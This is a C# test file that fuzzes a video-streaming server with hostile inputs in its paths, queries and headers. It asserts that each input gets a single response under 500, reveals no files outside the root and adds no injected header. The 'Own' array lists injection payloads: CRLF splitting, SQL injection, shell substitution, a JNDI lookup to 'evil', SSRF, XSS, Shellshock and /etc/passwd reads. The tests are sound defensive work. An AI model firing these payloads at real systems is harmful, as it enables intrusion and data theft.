using System.Runtime.CompilerServices;
using System.Text;
using XLive.Server.Tests.Delivery;

namespace XLive.Server.Tests.Framing;

/// <summary>
/// Hostile lines in every place of a request that takes text; <see cref="TraversalTests"/> has the path. One answer to each, none above
/// 499, nothing from outside the root, no header but our own, and one line in the log.
/// </summary>
public sealed class ListTests : IAsyncLifetime
{
    private const string Canary = "CANARY-outside-of-the-root";

    private static readonly HashSet<string> Ours = new(StringComparer.OrdinalIgnoreCase)
    {
        "Content-Length", "Connection", "Content-Type", "Date", "Access-Control-Allow-Origin", "Access-Control-Expose-Headers", "Cache-Control",
        "X-Request-Id", "Timing-Allow-Origin", "Cross-Origin-Resource-Policy", "Cross-Origin-Opener-Policy", "ETag", "Last-Modified", "Accept-Ranges",
        "Content-Range", "Vary", "WWW-Authenticate", "Allow", "Location", "Content-Encoding", "Transfer-Encoding", "Content-Security-Policy",
        "X-Content-Type-Options", "Referrer-Policy", "X-Frame-Options",
    };

    // Beside traversal: what splits a response or a log, and what a shell, a database, a template or a page would run.
    private static readonly string[] Own =
    [
        "%0d%0aSet-Cookie:%20x=y", "%0D%0ALocation:%20http://evil/", "%E5%98%8A%E5%98%8DSet-Cookie:x=y", "a%0aSet-Cookie:x", "a\rSet-Cookie: x=y",
        "%250d%250aX-Injected:1", "%u000d%u000aX-Injected:1", "\u560a\u560dX", "a\tX-Injected: 1", "\0", "a\0b", "\u007f", "\u0085X-Injected: 1",
        "'", "\"", "' OR '1'='1", "\" OR \"\"=\"", "1;DROP TABLE users--", "1' AND SLEEP(5)--", "$(id)", "`id`", ";id", "|id", "&&id", "${jndi:ldap://evil/a}",
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
        "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=/etc/passwd", "%n%n%n%n", "%s%s%s",
        "() { :; }; echo X-Injected: 1", "*)(uid=*", "<!--#exec cmd=\"id\"-->", "-1", "99999999999999999999", "NaN", "1e999", "[]", "{}", "{\"$gt\":\"\"}",
        "bytes=0-0,0-0,0-0,0-0,0-0,0-0,0-0,0-0,0-0", "bytes=-9223372036854775808", "bytes=9223372036854775807-", "bytes=1-0",
    ];

    private TestServer _server = null!;

    public async ValueTask InitializeAsync()
    {
        _server = await TestServer.StartAsync();
        _server.Write("films/a.ts", "FILM");
        foreach (var name in (string[])["secret.txt", "canary"])
            File.WriteAllText(Path.Combine(_server.Folder, name), Canary);
        _server.Write(".hidden", Canary);
        File.CreateSymbolicLink(_server.PathOf("films/out.ts"), Path.Combine(_server.Folder, "secret.txt"));
        File.CreateSymbolicLink(_server.PathOf("etc"), "/etc");
    }

    public ValueTask DisposeAsync() => _server.DisposeAsync();

    private static string[] Lines([CallerFilePath] string here = "")
    {
        // The collections lie beside a checkout of the project.
        var folder = Path.GetFullPath(Path.Combine(Path.GetDirectoryName(here)!, "../../../../shared/corpora/paths"));
        var lines = Directory.Exists(folder) ? Directory.GetFiles(folder, "*.txt").SelectMany(f => File.ReadAllLines(f, Encoding.Latin1)) : [];
        return [.. lines.SelectMany(l => (string[])[l.Replace("{FILE}", "etc/passwd", StringComparison.Ordinal), l.Replace("{FILE}", "canary", StringComparison.Ordinal)])
            .Concat(Own).Where(l => l.Length > 0).Distinct()];
    }

    [Theory]
    [InlineData("/api/v1/*", "")]
    [InlineData("/monitor/*", "")]
    [InlineData("/health/*", "")]
    [InlineData("/.well-known/*", "")]
    [InlineData("/films/a.ts?x=*", "")]
    [InlineData("/films/a.ts?expires=9999999999&token=x&uid=*", "")]
    [InlineData("/~v1.*/films/a.ts", "")]
    [InlineData("/~s1.*/films/a.ts", "")]
    [InlineData("signed", "Referer: *")]
    [InlineData("signed", "User-Agent: *")]
    [InlineData("signed", "Range: *")]
    [InlineData("signed", "If-None-Match: *")]
    [InlineData("signed", "Host: *")]
    [InlineData("/api/v1/config", "Authorization: Bearer *")]
    [InlineData("/api/v1/config", "Origin: *")]
    public void A_hostile_line_gets_one_answer_and_nothing_else(string target, string header)
    {
        var signed = TestServer.Signed("/films/a.ts");
        var lines = Lines();
        Assert.True(lines.Length > Own.Length - 1);
        var client = _server.Connect();
        var sent = 0;
        foreach (var line in lines)
        {
            var fields = header.Replace("*", line, StringComparison.Ordinal);
            if (!fields.StartsWith("Host:", StringComparison.Ordinal))
                fields = "Host: test" + (fields.Length > 0 ? "\r\n" + fields : "");
            var request = $"GET {(target == "signed" ? signed : target.Replace("*", line, StringComparison.Ordinal))} HTTP/1.1\r\n{fields}\r\n\r\n";
            var answer = client.Send(request).Read();
            sent++;
            Assert.True(answer.Status is >= 200 and <= 499, $"{answer.StatusLine} to {request}");
            Assert.True(!answer.Text.Contains("root:x:0", StringComparison.Ordinal) && !answer.Text.Contains(Canary, StringComparison.Ordinal), request);
            Assert.True(answer.Headers.All(h => Ours.Contains(h.Key)), $"{string.Join(", ", answer.Headers.Select(h => h.Key))} to {request}");
            if (answer["Connection"] == "close")
            {
                Assert.True(client.ReadToEnd(out _).Length == 0, $"more than one answer to {request}");
                client.Dispose();
                client = _server.Connect();
            }
            Assert.True(client.Unread == 0, $"more than one answer to {request}");
            if (sent % 50 == 0)
            {
                Assert.Equal("FILM", client.Ask("GET", signed).Text);
                sent++;
            }
        }
        client.Dispose();
        Until.Equal(sent, () => _server.Log("access.log").Count(c => c == '\n'), "one line of the log for each");
        Assert.All(_server.Log("access.log").Split('\n', StringSplitOptions.RemoveEmptyEntries), l => Assert.Matches("^\\d{4}-\\d\\d-\\d\\dT\\S+ \\S+ \".*\" \\d{3} \\d+ \\d+us uid=\".*\"$", l));
        // That a check came late on a busy machine is no answer to a line.
        Assert.DoesNotContain(_server.Log("error.log").Split('\n', StringSplitOptions.RemoveEmptyEntries), static l => !l.Contains(".HealthChecks: ", StringComparison.Ordinal));
    }
}
